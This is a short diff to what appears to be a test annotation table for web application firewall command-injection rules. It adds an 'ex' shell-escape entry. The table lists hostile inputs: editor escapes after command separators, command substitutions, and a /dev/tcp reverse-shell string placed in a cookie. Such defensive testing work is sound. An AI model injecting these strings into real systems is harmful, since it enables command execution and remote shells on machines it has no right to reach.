@@ -84,6 +84,7 @@ BENIGN_BUT_ATTACK = {
     "932230#27": "`cut crs312``dig 34test`: command substitutions",
     "932230#42": ";vi -c:\\!pwd: a command after a separator, escaping to a shell",
     "932230#43": ";vim -c:\\!pwd: a command after a separator, escaping to a shell",
+    "932230#44": ";ex -c:\\!pwd: a command after a separator, escaping to a shell",
     "932230#46": ";cat /path/file.gz: a command after a separator",
     "932236#9": ";vi -c:\\!pwd: a command after a separator, escaping to a shell",
     "932260#2": "exec 5<>/dev/tcp/8.8.8.8/80 in a cookie: a shell's reverse connection",
